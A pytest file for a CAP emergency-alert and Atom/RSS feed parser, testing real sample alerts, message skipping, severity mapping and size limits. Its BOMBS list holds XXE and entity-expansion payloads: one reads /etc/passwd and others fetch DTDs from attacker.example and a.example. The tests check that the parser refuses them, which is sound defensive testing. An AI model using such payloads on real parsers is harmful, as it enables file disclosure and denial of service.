"""CAP 1.2 alerts (all six shared fixtures) and Atom/RSS indexes of CAP alerts."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from broadcaster.intake import FeedError, IncidentEvent, Limits, SourceMapping
from broadcaster.intake.cap import parse
from broadcaster.intake.cap_index import CapLink, parse_index
from broadcaster.intake.xmlsafe import ENTITY_REFUSED
from tests.conftest import FIXTURES

CAP = FIXTURES / "cap"
OURS = Path(__file__).resolve().parents[1] / "fixtures" / "intake"
MAPPING = SourceMapping(
    regions={"SAME:*": "*", "area:Los Angeles County": "los-angeles"},
    components={"category:Met": "weather"},
)


def _one(name: str, now: datetime, mapping: SourceMapping = MAPPING) -> IncidentEvent:
    result = parse((CAP / name).read_bytes(), mapping, source="cap", now=now)
    assert result.skipped == []
    (event,) = result.events
    return event


def test_a1_homeland_security_advisory() -> None:
    event = _one("oasis-cap12-appendix-a1.xml", datetime(2003, 4, 3, tzinfo=UTC))
    assert event.external_id == "hsas@dhs.gov,43b080713727"
    assert event.version == "43b080713727"
    assert event.status == "identified"
    assert event.severity == "critical"  # Severe + Immediate
    assert event.title == "Homeland Security Sets Code ORANGE"
    assert event.message.startswith("The Department of Homeland Security has elevated")
    assert "\n\nA High Condition is declared" in event.message  # the instruction follows
    assert event.url == "http://www.dhs.gov/dhspublic/display?theme=29"
    assert event.updated_at == datetime(2003, 4, 2, 19, 39, 1, tzinfo=UTC)
    assert event.starts_at == event.updated_at  # no onset: sent
    assert event.expires_at is None
    assert event.labels["cap.msgType"] == "Alert"


def test_a2_thunderstorm_warning_open_then_expired() -> None:
    during = _one("oasis-cap12-appendix-a2.xml", datetime(2003, 6, 17, 22, 30, tzinfo=UTC))
    assert during.status == "identified"
    assert during.severity == "critical"
    assert during.title == "SEVERE THUNDERSTORM WARNING"
    assert during.regions == ("006109", "006009", "006003")
    assert during.components == ("weather",)
    assert during.expires_at == datetime(2003, 6, 17, 23, 0, tzinfo=UTC)
    after = _one("oasis-cap12-appendix-a2.xml", datetime(2003, 6, 18, tzinfo=UTC))
    assert after.status == "resolved"
    assert after.ends_at == after.expires_at
    assert after.version == "KSTO1055887203/ended"
    assert after.external_id == during.external_id


def test_a3_earthquake_update_lands_on_the_original_alert() -> None:
    event = _one("oasis-cap12-appendix-a3.xml", datetime(2003, 6, 12, tzinfo=UTC))
    assert event.external_id == "trinet@caltech.edu,TRI13970876.1"
    assert event.version == "TRI13970876.2"
    assert event.status == "resolved"  # urgency Past: no action needed any more
    assert event.severity == "minor"
    assert event.title == "EQ 3.4 Imperial County CA"


def test_a4_amber_alert_in_two_languages() -> None:
    now = datetime(2003, 6, 12, 6, 0, tzinfo=UTC)
    event = _one("oasis-cap12-appendix-a4.xml", now)
    assert event.title == "Amber Alert in Los Angeles County"
    assert list(event.languages) == ["en-US", "es-US"]
    assert event.languages["es-US"][0] == "Alerta Amber en el condado de Los Ángeles"
    assert event.regions == ("los-angeles", "006037")
    spanish = _one("oasis-cap12-appendix-a4.xml", now, SourceMapping(preferred_languages=("es",)))
    assert spanish.title == "Alerta Amber en el condado de Los Ángeles"
    assert spanish.message.startswith("DATE/TIME: 06/11/03, 1915 HORAS.")


def test_google_tsunami_cancellation_update() -> None:
    event = _one(
        "google-PAAQ-4-mg5a94.xml",
        datetime(2013, 1, 5, 11, 0, tzinfo=UTC),
        SourceMapping(default_severity="major"),
    )
    # Three references: the earliest (PAAQ-1) is the incident every update lands on.
    assert event.external_id == "wcatwc@noaa.gov,PAAQ-1-mg5a94"
    assert event.version == "PAAQ-4-mg5a94/ended"
    assert event.status == "resolved"
    assert event.severity == "major"  # Unknown -> the default
    assert event.title.startswith("The tsunami Warning is canceled")
    assert event.labels["cap.incidents"] == "mg5a94"
    assert event.url is not None and event.url.endswith("WEAK51.txt")


def test_ipaws_cancel_without_info_is_a_bare_resolution() -> None:
    event = _one("ipaws-5e6dd9de023f1930ef6548d9.xml", datetime(2019, 4, 19, 18, 0, tzinfo=UTC))
    assert event.external_id == (
        "bbrundage@dps.state.nv.us,AS-NV-e18921c7-1b35-4a81-9705-42d25c265ddd"
    )
    assert event.version == "AS-NV-58d33e3a-1f9a-4909-9d59-34e90b33b3e8"
    assert (event.status, event.title, event.message) == ("resolved", "", "")
    assert event.ends_at == datetime(2019, 4, 19, 17, 46, 20, tzinfo=UTC)


def _alert(status: str = "Actual", msg_type: str = "Alert", extra: str = "") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>X-1</identifier><sender>s@example.org</sender>
  <sent>2026-01-05T10:00:00+00:00</sent><status>{status}</status>
  <msgType>{msg_type}</msgType><scope>Public</scope>{extra}
  <info><category>Met</category><event>Flood</event><urgency>Expected</urgency>
    <severity>Moderate</severity><certainty>Likely</certainty><headline>Flood</headline>
  </info>
</alert>""".encode()


NOW = datetime(2026, 1, 5, 11, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("status", "msg_type", "reason"),
    [
        ("Test", "Alert", "status 'Test' is not an actual alert"),
        ("Exercise", "Alert", "status 'Exercise' is not an actual alert"),
        ("Actual", "Ack", "msgType 'Ack' is not an alert, update or cancel"),
    ],
)
def test_non_public_messages_are_skipped(status: str, msg_type: str, reason: str) -> None:
    result = parse(_alert(status, msg_type), MAPPING, source="cap", now=NOW)
    assert result.events == []
    assert result.skipped[0].reason == reason
    assert result.skipped[0].item_id == "X-1"


def test_moderate_expected_is_major_and_overrides_apply() -> None:
    assert parse(_alert(), MAPPING, source="cap", now=NOW).events[0].severity == "major"
    mapping = SourceMapping(severities={"Moderate/Expected": "critical"})
    assert parse(_alert(), mapping, source="cap", now=NOW).events[0].severity == "critical"


@pytest.mark.parametrize("msg_type", ["Update", "Cancel"])
@pytest.mark.parametrize("references", ["garbage", "a,b,c;d,e,f", ""])
def test_an_update_or_cancel_that_names_no_alert_is_skipped_saying_so(
    msg_type: str, references: str
) -> None:
    """CAP 1.2 requires ``references`` of an Update or Cancel. Read as an alert of its own,
    an Update sent customers a second first notice, and a Cancel resolved nothing, silently."""
    extra = f"<references>{references}</references>" if references else ""
    result = parse(_alert(msg_type=msg_type, extra=extra), MAPPING, source="cap", now=NOW)
    assert result.events == []
    [skipped] = result.skipped
    assert skipped.item_id == "X-1"
    assert f"an {msg_type} must name the alert it changes" in skipped.reason


def test_cap_11_is_read_too() -> None:
    data = _alert().replace(b"cap:1.2", b"cap:1.1")
    assert len(parse(data, MAPPING, source="cap", now=NOW).events) == 1


def test_missing_identifier_is_a_skip() -> None:
    data = _alert().replace(b"<identifier>X-1</identifier>", b"")
    result = parse(data, MAPPING, source="cap", now=NOW)
    assert result.skipped[0].reason == "identifier or sender missing"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<alert>no namespace</alert>",
        b'<feed xmlns="http://www.w3.org/2005/Atom"/>',
        b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'>",
        b"\xff\xfe\x00<",
    ],
)
def test_unusable_documents_raise_feed_error(data: bytes) -> None:
    with pytest.raises(FeedError):
        parse(data, MAPPING, source="cap", now=NOW)


BOMBS = [
    b"""<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&c;</identifier></alert>""",
    b"""<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&x;</identifier></alert>""",
    b"""<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>""",
    b"""<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY % p SYSTEM "http://a.example/p">%p;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>""",
]


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32"])
def test_entities_and_dtds_are_refused(bomb: bytes, encoding: str) -> None:
    data = bomb.decode().encode(encoding)
    with pytest.raises(FeedError, match=ENTITY_REFUSED):
        parse(data, MAPPING, source="cap", now=NOW)
    with pytest.raises(FeedError, match=ENTITY_REFUSED):
        parse_index(data)


def test_size_limit() -> None:
    with pytest.raises(FeedError, match="over the limit"):
        parse(_alert(), SourceMapping(limits=Limits(max_document_bytes=64)), source="c", now=NOW)


# -- indexes ---------------------------------------------------------------------------------


def test_atom_index_gives_the_cap_links() -> None:
    result = parse_index((OURS / "cap-index.atom").read_bytes())
    assert result.links == [
        CapLink(
            url="https://alerts.weather.example/cap/5e6d1a2b3c4d.xml",
            entry_id="urn:oid:2.49.0.1.840.0.5e6d1a2b3c4d.001.1",
            updated=datetime(2026, 1, 5, 14, 58, tzinfo=UTC),
        ),
        CapLink(
            url="https://alerts.weather.example/cap/7a8b9c0d1e2f.xml",
            entry_id="https://alerts.weather.example/cap/7a8b9c0d1e2f.xml",
            updated=datetime(2026, 1, 5, 13, 30, tzinfo=UTC),
        ),
    ]
    (skipped,) = result.skipped
    assert skipped.reason == "no absolute http(s) link"
    assert skipped.item_id == "urn:oid:2.49.0.1.840.0.relative"


def test_rss_index_and_item_limit() -> None:
    items = "".join(
        f"<item><guid>g{n}</guid><link>https://x.example/{n}.xml</link>"
        "<pubDate>Mon, 05 Jan 2026 10:00:00 -0500</pubDate></item>"
        for n in range(4)
    )
    data = f"<rss version='2.0'><channel>{items}</channel></rss>".encode()
    result = parse_index(data, limits=Limits(max_items=3))
    assert [link.url for link in result.links] == [f"https://x.example/{n}.xml" for n in range(3)]
    assert result.links[0].updated == datetime(2026, 1, 5, 15, 0, tzinfo=UTC)
    assert result.skipped[0].reason == "1 item(s) over the limit of 3"


def test_index_refuses_other_documents() -> None:
    with pytest.raises(FeedError, match="not an Atom or RSS index"):
        parse_index(_alert())
